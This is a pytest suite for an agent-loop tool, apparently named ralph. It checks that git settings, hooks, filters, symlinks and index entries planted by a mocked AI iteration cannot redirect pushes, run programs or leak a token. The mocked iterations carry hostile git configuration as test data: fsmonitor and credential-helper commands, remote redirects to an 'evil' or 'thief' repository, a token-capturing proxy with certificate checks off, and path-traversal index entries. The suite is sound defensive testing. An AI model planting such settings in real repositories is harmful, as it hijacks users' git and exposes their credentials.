"""Settings that an iteration writes into a repository's configuration must not control the loop's own git. Tested
with whole loops.
"""

from __future__ import annotations

import shutil
import socket
import ssl
import subprocess
import threading
from typing import TYPE_CHECKING, Self

import pytest

from ralph.mock_api import Fault, Step, Turn
from tests.git.http_repository import HttpRepository
from tests.patience import PATIENCE_S, wait_until
from tests.processes.scripts import script
from tests.program.conftest import in_turn, loop_folder, loop_lines, processes_of
from tests.program.model_answers import DONE, bash, calls, write
from tests.services.certificates import make_certificate

if TYPE_CHECKING:
    from pathlib import Path

TOKEN = "ghs_canary0123456789abcdefghijklmnopqrst"
HANGS = Step(Turn("Late."), Fault(stall_before_headers_s=60))

OPEN = ("--sandbox", "off")
"""Options without which a sandbox would undo what the iterations plant."""


def planted(*lines: str) -> str:
    """A command that writes these lines into .git/config, as a model could with the Write tool alone, and does some
    work.
    """
    return f"cat >> .git/config <<'END'\n{chr(10).join(lines)}\nEND\necho work >> work"


def _made(place: Path) -> Path:
    place.mkdir()
    return place


def git(ralph, *arguments: str) -> str:
    """Runs git beside the checkout, where the checkout's configuration does not apply."""
    ran = subprocess.run(
        ["git", *arguments],
        cwd=ralph.cwd.parent,
        env=ralph.environment,
        capture_output=True,
        text=True,
        check=False,
    )
    return ran.stdout.strip()


def test_a_repository_elsewhere_is_refused_before_anything_is_spent(
    ralph, checkout, iterations, tmp_path
) -> None:
    """A plain run and a loop that neither commits nor pushes work there, with a notice."""
    shutil.copytree(checkout.top, tmp_path / "other")
    shutil.rmtree(checkout.top / ".git")
    (checkout.top / ".git").write_text("gitdir: ../other/.git\n")
    server = iterations([bash("echo work >> work")])
    before = git(ralph, "-C", "other", "for-each-ref")
    for option in ("--commit", "--push"):
        ran = ralph("loop", "go", option, "--max-iterations", "1", "--sandbox", "auto", code=78)
        assert "other/.git, which is not this checkout's own (it does not name " in ran.last_line
        assert ran.last_line.endswith(f"--add-dir {tmp_path}/other/.git")
    assert not server.requests
    given = ("--add-dir", str(tmp_path / "other/.git"), "--max-iterations", "1")
    assert ralph("loop", "go", "--commit", *given).code == 0
    assert git(ralph, "-C", "other", "for-each-ref") != before
    plain = ralph("loop", "go", "--max-iterations", "1", "--sandbox", "auto", code=0)
    assert "[notice] commands may not write the git directory" in plain.stderr


def of_remote(ralph, *arguments: str) -> str:
    return git(ralph, "--git-dir", "remote.git", *arguments)


def test_a_remote_that_an_iteration_made_up_gets_nothing_and_runs_nothing(
    ralph, checkout, iterations, tmp_path
) -> None:
    """The agent makes a repository inside the checkout whose configuration names a program, and an address that
    leads there.
    """
    mark = tmp_path / "ran"
    program = f"touch {mark}; true"
    evil = (
        "mkdir -p evil.git/objects/info evil.git/refs evil.git/hooks other.git/objects other.git/refs;"
        " for each in evil.git other.git; do echo 'ref: refs/heads/main' > $each/HEAD; done;"
        " echo $PWD/other.git/objects > evil.git/objects/info/alternates;"
        f" printf '[core]\\n\\tbare = true\\n\\talternateRefsCommand = \"{program}\"\\n' > evil.git/config;"
        f" printf '#!/bin/sh\\n{program}\\n' > evil.git/hooks/pre-receive; chmod +x evil.git/hooks/pre-receive;"
        " printf 'evil.git\\nother.git\\n' >> .gitignore"
    )
    there = f"{ralph.cwd}/evil.git"
    config = (
        f'[remote "origin"]\n\turl = {there}\n\tpushurl = {there}\n[url "{there}"]\n\tinsteadOf = {tmp_path}/remote.git'
        f"\n\tpushInsteadOf = {tmp_path}/remote.git\n[remote]\n\tpushDefault = {there}\n"
        f'[core]\n\talternateRefsCommand = "{program}"\n\tfsmonitor = "{program}"\n\tsshCommand = "{program}"'
    )
    iterations([bash(f"{evil}; {planted(config)}")], [bash("echo more >> work")])
    ran = ralph("loop", "go", *OPEN, "--commit", "--push", "--max-iterations", "2", code=0)
    lines = loop_lines(ran)
    assert [line for line in lines if line.startswith("pushed")] == ["pushed 1 commit"] * 2
    assert not mark.exists()
    [told] = [line for line in lines if "changed git's settings or hooks" in line]
    assert told.startswith(
        "iteration 1 changed git's settings or hooks in this repository: core.alternaterefscommand, "
    )
    checkout.git("config", "--unset", "core.fsmonitor")
    assert of_remote(ralph, "rev-parse", "main") == checkout.git("rev-parse", "HEAD")
    assert git(ralph, "--git-dir", there, "for-each-ref") == ""


class ThiefProxy:
    """A proxy that accepts CONNECT, pretends to be the server, and keeps what it receives. Only a client that does
    not check certificates sends it anything.
    """

    def __init__(self, certificate: Path) -> None:
        self.taken = b""
        self.connections = 0
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._context.load_cert_chain(certificate)
        self._listener = socket.create_server(("127.0.0.1", 0))
        threading.Thread(target=self._serve, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._listener.getsockname()[1]}"

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_error: object) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:  # closed
                return
            self.connections += 1
            with connection:
                self._take_from(connection)

    def _take_from(self, connection: socket.socket) -> None:
        try:
            connection.settimeout(PATIENCE_S)
            self.taken += _head_from(connection)
            connection.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
            with self._context.wrap_socket(connection, server_side=True) as inner:
                self.taken += _head_from(inner)
                inner.sendall(b"HTTP/1.1 500 No\r\nContent-Length: 0\r\n\r\n")
        except OSError:  # a client that checks certificates leaves here
            return


def _head_from(connection: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data and (chunk := connection.recv(65_536)):
        data += chunk
    return data


def test_a_planted_proxy_or_certificate_rule_gets_no_token(ralph, checkout, iterations, tmp_path) -> None:
    """The token is where the action actions/checkout puts it. With a proxy and `sslVerify = false`, somebody else
    could read it.
    """
    mark = tmp_path / "asked"
    certificate = make_certificate(_made(tmp_path / "c"), names="IP:127.0.0.1")
    other = make_certificate(_made(tmp_path / "d"), names="IP:127.0.0.1")
    remote = HttpRepository(tmp_path / "remote.git", token=TOKEN, certificate=certificate)
    with remote as server, ThiefProxy(other) as thief:
        checkout.git("remote", "set-url", "origin", server.url)
        checkout.git("config", "http.sslCAInfo", str(certificate))
        checkout.git("config", f"http.{server.root}/.extraheader", f"Authorization: Bearer {TOKEN}")
        config = (
            f'[http]\n\tproxy = {thief.url}\n\tsslVerify = false\n[remote "origin"]\n\tproxy = {thief.url}\n'
            f'[http "{server.root}"]\n\tproxy = {thief.url}\n\tsslVerify = false\n'
            f'[http "{server.url}"]\n\tproxy = {thief.url}\n\tsslVerify = false\n'
            f'[credential]\n\thelper = "!touch {mark}; true"\n'
        )
        iterations([bash(planted(config))])
        ran = ralph("loop", "go", *OPEN, "--commit", "--push", "--max-iterations", "1", code=0)
        assert "pushed 1 commit" in loop_lines(ran)
        assert of_remote(ralph, "rev-parse", "main") == checkout.git("rev-parse", "HEAD")
        assert (thief.connections, TOKEN.encode() in thief.taken) == (0, False)
        assert not mark.exists()
        kept = "".join(path.read_text() for path in loop_folder(ralph).iterdir())
        assert server.root in kept, "where it goes is recorded"
        assert TOKEN not in kept + ran.stderr

        # Without ralph's protection, git would have pushed there.
        checkout.git("push", "--force", "origin", "HEAD~:main", fails=True)
        assert TOKEN.encode() in thief.taken


def test_only_a_push_gets_the_token_of_the_environment(ralph, checkout, iterations, tmp_path) -> None:
    certificate = make_certificate(_made(tmp_path / "c"), names="IP:127.0.0.1")
    with HttpRepository(tmp_path / "remote.git", token=TOKEN, certificate=certificate) as server:
        checkout.git("remote", "set-url", "origin", server.url)
        checkout.git("config", "http.sslCAInfo", str(certificate))
        iterations([bash("echo x > work; env > seen")])
        ralph("loop", "go", *OPEN, "--commit", "--push", "--max-iterations", "1", code=77)
        ralph.environment |= {"RALPH_GIT_TOKEN": TOKEN, "RALPH_GIT_HOST": server.host}
        ran = ralph("loop", "go", *OPEN, "--commit", "--push", "--max-iterations", "1", code=0)
    assert "pushed 1 commit" in loop_lines(ran)
    assert of_remote(ralph, "rev-parse", "main") == checkout.git("rev-parse", "HEAD")
    assert TOKEN not in (ralph.cwd / "seen").read_text()
    ralph.environment["RALPH_GIT_TOKEN"] = "two words"
    assert "has spaces" in ralph("loop", "go", *OPEN, "--push", code=78).stderr


def test_a_loop_that_was_killed_pushes_where_it_did_before(ralph, checkout, iterations, tmp_path) -> None:
    """`--continue` finds only what the iteration planted before the kill."""
    git(ralph, "clone", "-q", "--bare", "remote.git", "thief.git")
    config = f'[remote "origin"]\n\tpushurl = {tmp_path}/thief.git\n'
    server = iterations([bash(planted(config)), in_turn(HANGS, bash("echo more >> work"))])
    process = ralph.start("loop", "go", *OPEN, "--commit", "--push", "--max-iterations", "1")
    assert server.wait_for_requests(2, PATIENCE_S)
    process.kill()
    process.communicate()
    wait_until(lambda: not processes_of(ralph))
    before = git(ralph, "--git-dir", f"{tmp_path}/thief.git", "rev-parse", "main")
    ran = ralph("loop", "--continue", code=0)
    [notice] = [line for line in loop_lines(ran) if "has changed since the loop began" in line]
    assert "(remote.origin.pushurl): pushes use the configuration of that time" in notice
    assert of_remote(ralph, "rev-parse", "main") == checkout.git("rev-parse", "HEAD") != before
    assert git(ralph, "--git-dir", f"{tmp_path}/thief.git", "rev-parse", "main") == before


def test_what_held_a_credential_and_was_changed_before_a_resume_is_told_and_nothing_is_sent(
    ralph, checkout, iterations, tmp_path
) -> None:
    """The value of the setting is recorded nowhere, so it cannot be restored."""
    checkout.git("config", "remote.origin.url", f"file://{tmp_path}/remote.git")
    checkout.git("config", f"url.file://{tmp_path}/.insteadOf", f"https://{TOKEN}@h/")
    checkout.git("config", "remote.origin.url", f"https://{TOKEN}@h/remote.git")
    iterations([write("work", "work\n")])
    ran = ralph("loop", "go", *OPEN, "--commit", "--push", "--max-iterations", "1", code=0)
    checkout.git("config", "remote.origin.url", f"{tmp_path}/elsewhere.git")
    again = ralph("loop", "--continue", "--max-iterations", "2", code=78)
    assert (
        "settings that held a credential then are no longer known: restore them, or start a new loop"
        in again.stderr
    )
    assert "there is no remote to push to" in loop_lines(again)[-1]
    assert TOKEN not in again.stderr + ran.stderr
    assert TOKEN not in "".join(path.read_text() for path in loop_folder(ralph).iterdir())


def test_a_filter_without_a_name_and_a_remote_in_disguise_run_nothing(
    ralph, checkout, iterations, tmp_path
) -> None:
    """An archive may contain `.git` with a filter without a name, and beside it a remote that would check out
    files. Here `evil/.git` is not git directory, so that git would use `evil` itself.
    """
    mark = tmp_path / "ran"
    evil = ralph.cwd / "evil"
    git(ralph, "clone", "-q", "--bare", "remote.git", str(evil))
    git(ralph, "--git-dir", str(evil), "config", "core.bare", "false")
    git(ralph, "--git-dir", str(evil), "--work-tree", str(evil), "checkout", "-q", "-f", "main")
    with (evil / "config").open("a") as file:
        file.write(
            f'[receive]\n\tdenyCurrentBranch = updateInstead\n[filter "x"]\n\tsmudge = "touch {mark}; cat"\n'
        )
    _made(evil / ".git").joinpath("HEAD").write_text("ref: refs/heads/main\n")
    with (ralph.cwd / ".git" / "config").open("a") as file:
        file.write(f'[filter ""]\n\tclean = "touch {mark}; cat"\n')
    with (ralph.cwd / ".git" / "info" / "exclude").open("a") as file:
        file.write("evil\n")
    checkout.git("remote", "set-url", "origin", "./evil")
    ralph.environment["ANTHROPIC_BASE_URL"] = "http://127.0.0.1:1"
    ran = ralph("loop", "go", "--commit", "--push", "--tools", "Write", "--max-iterations", "1")
    assert (ran.code, mark.exists()) == (78, False)
    assert "a push to ./evil would update the files there" in ran.stderr

    iterations(
        [
            calls(
                ("Write", {"file_path": ".gitattributes", "content": "*.txt filter=x\n*.bin filter=\n"}),
                ("Write", {"file_path": "a.bin", "content": "x"}),
            )
        ]
    )
    ran = ralph("loop", "go", "--commit", "--tools", "Write", "--max-iterations", "1")
    assert (ran.code, mark.exists()) == (0, False)
    assert "a.bin goes through the filter ''" in ran.stderr
    checkout.git("add", "a.bin")
    assert mark.exists(), "and git itself runs it"


def test_a_filter_of_the_users_own_runs_only_if_the_users_settings_name_it(
    ralph, checkout, iterations, tmp_path
) -> None:
    """Like nbstripout, whose settings in the directory name a program."""
    mark = tmp_path / "ran"
    clean = script(tmp_path / "clean", "test ! -e clean.cfg || . ./clean.cfg\ntr a-z A-Z")
    checkout.git("config", "--global", "filter.mine.clean", str(clean))
    checkout.write("own.nb", "PLAIN\n")
    checkout.write(".gitattributes", "*.nb filter=mine\n")
    checkout.commit_all()
    options = ("--commit", "--tools", "Write", "--max-iterations", "1")
    configured = ("Write", {"file_path": "clean.cfg", "content": f"touch {mark}"})
    iterations([calls(configured, ("Write", {"file_path": "a.nb", "content": "x"}))])
    ran = ralph("loop", "go", *options, code=0)
    assert not mark.exists()
    [told] = [line for line in loop_lines(ran) if "does not run these filters" in line]
    assert ran.stderr.index(told) < ran.stderr.index("iteration 1")
    assert "mine (own.nb); " in told
    assert "a.nb goes through your filter 'mine'" in ran.stderr
    project = ralph.cwd / "ralph.toml"
    project.write_text("[loop]\ngit_filters = ['mine']\n")
    assert "loop.git_filters" in ralph("loop", "go", *options, code=78).last_line
    assert not mark.exists()
    project.rename(ralph.user_file)
    (ralph.cwd / "clean.cfg").unlink()
    iterations([calls(("Write", {"file_path": "b.nb", "content": "y"}))])
    ran = ralph("loop", "go", *options, code=0)
    assert "does not run these filters" not in ran.stderr
    assert [checkout.git("show", f"HEAD:{name}.nb") for name in "ab"] == ["X", "Y"]


def test_the_hooks_that_an_iteration_leaves_are_named(ralph, checkout, iterations) -> None:
    """The hooks would run at the user's next git command. The loop's own git runs none."""
    shutil.rmtree(checkout.top / ".git" / "hooks", ignore_errors=True)
    hook = "mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch ../ran\\n' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit"
    iterations([bash(f"{hook}; git switch -q -c topic; echo 1 > work")], [bash("echo 2 > work")])
    ran = ralph("loop", "go", *OPEN, "--commit", "--max-iterations", "2", code=0)
    [told] = [line for line in loop_lines(ran) if "changed git's settings or hooks" in line]
    assert told.startswith(
        "iteration 1 changed git's settings or hooks in this repository: hooks/post-commit; ralph's own"
    )
    assert told.endswith("check .git/config and .git/hooks first")
    assert not (ralph.cwd.parent / "ran").exists()


@pytest.mark.sandboxed
def test_a_link_in_a_circle_ends_no_loop_and_hides_no_hook(ralph, checkout, iterations) -> None:
    hook = "sub/.git/hooks/post-commit"
    made = f"git init -q sub; echo true > {hook}; chmod +x {hook}; ln -s loop sub/.git/hooks/loop"
    iterations([bash(f"ln -s loop loop; ln -s work/x through; {made}")], [bash("echo 2 > work")])
    ran = ralph("loop", "go", "--commit", "--max-iterations", "2", code=0)
    assert (
        "git runs programs that these repositories below the work name: sub (hooks/post-commit)" in ran.stderr
    )
    assert checkout.git("show", "HEAD:work") == "2"


@pytest.mark.sandboxed
@pytest.mark.parametrize("option", ["--until", "--gate"])
def test_a_repository_that_the_last_check_or_gate_made_is_named(ralph, checkout, iterations, option) -> None:
    made = "git init -q d; git -C d config core.fsmonitor ./x; git config core.fsmonitor ./x; exit 0"
    checkout.write("check.sh", "exit 1\n")
    iterations([bash(f"echo '{made}' > check.sh")])
    ran = ralph("loop", "go", option, "sh check.sh", "--max-iterations", "1", code=0)
    assert "git runs programs that these repositories below the work name: d (core.fsmonitor)" in ran.stderr


@pytest.mark.sandboxed
def test_the_users_git_writes_through_nothing_that_a_run_left_in_the_git_directory(
    ralph, checkout, serve
) -> None:
    kept = ralph.cwd.parent / "profile"
    kept.write_text("mine\n")
    entry = "git hash-object -w --stdin < work"
    index = f"git update-index --add --cacheinfo 100644,$({entry}),xx/xx/profile; sed -i s,xx/xx,../..,g .git/index"
    commit = "echo x > work; git add work; git commit -qm 'touch pwned'"
    serve(bash(f"{commit}; ln -s {kept} .git/MERGE_MSG; {index}"), DONE)
    ran = ralph("go", code=0)
    assert f"MERGE_MSG (to {kept})" in ran.stderr
    assert ".git/index (../../profile): remove the index" in ran.stderr
    checkout.git("read-tree", "HEAD")
    checkout.git("revert", "--no-edit", "HEAD")
    assert kept.read_text() == "mine\n"


@pytest.mark.sandboxed
def test_no_commit_takes_a_name_that_an_iteration_wrote_into_the_index(ralph, checkout, iterations) -> None:
    entry = "$(git hash-object -w --stdin < a.txt)"
    staged = (
        f"git update-index --add --cacheinfo 100755,{entry},xxxx/hooks/x --cacheinfo 100755,{entry},xx/xx/y"
    )
    iterations([bash(f"echo x > a.txt; {staged}; sed -i 's,xxxx,.git,g;s,xx/xx,../..,g' .git/index")])
    ran = ralph("loop", "go", "--commit", "--push", "--max-iterations", "1", code=0)
    told = "git does not take these: ../../y, .git/hooks/x; commits leave them out"
    assert any(told in line for line in loop_lines(ran))
    names = of_remote(ralph, "ls-tree", "-r", "--name-only", "main").split("\n")
    assert "a.txt" in names
    assert not [name for name in names if name.startswith((".git/", ".."))]


@pytest.mark.sandboxed
def test_repositories_that_an_iteration_hides_behind_links_are_named_by_the_links(
    ralph, checkout, iterations
) -> None:
    checkout.write("docs/f")
    checkout.commit_all()
    evil = (
        'plant() { git init -q "$1/evil"; mkdir "$1/evil/docs"; touch "$1/evil/docs/.mcp.json"; '
        'git -C "$1/evil" config core.fsmonitor ./x; rm -rf "$2"; ln -s "$1/evil/docs" "$2"; }; '
        'git init -q sub; plant sub/.git docs; plant .git b; plant "$(dirname "$CARGO_HOME")" c; echo x > work'
    )
    iterations([bash(evil)])
    ran = ralph("loop", "go", "--commit", "--max-iterations", "1", code=0)
    told = [line for line in ran.stderr.split("\n") if "git runs programs that these repositories" in line]
    assert any("; commits leave them out" in line for line in told)
    for line in told:
        assert all(f"{name} (core.fsmonitor)" in line for name in ("docs", "b", "c")), line
        assert all(f"{name}/.mcp.json" in line for name in ("docs", "b", "c")), line
    assert "120000" not in checkout.git("ls-tree", "-r", "HEAD")
    assert "work" in checkout.git("ls-tree", "-r", "--name-only", "HEAD").split()
